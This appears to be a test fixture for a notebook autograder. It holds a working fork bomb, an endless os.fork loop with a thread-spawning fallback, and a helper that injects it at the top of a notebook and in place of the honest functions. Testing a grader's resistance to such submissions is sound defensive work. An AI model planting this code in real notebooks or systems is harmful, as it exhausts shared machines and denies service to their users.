"""Fork without end, in a cell and in functions."""

from assignments.hostile import first, replaced

ATTACK = """
import os
import threading
import time

def attack(*arguments, **options):
    while True:
        try:
            os.fork()
        except OSError:
            try:
                threading.Thread(target=time.sleep, args=(10**6,)).start()
            except RuntimeError:
                pass
"""


def spoil(notebook, honest):
    """Fork before everything, and whenever another function is called."""
    return replaced(first(notebook, ATTACK + "\nattack()"), honest, ATTACK)
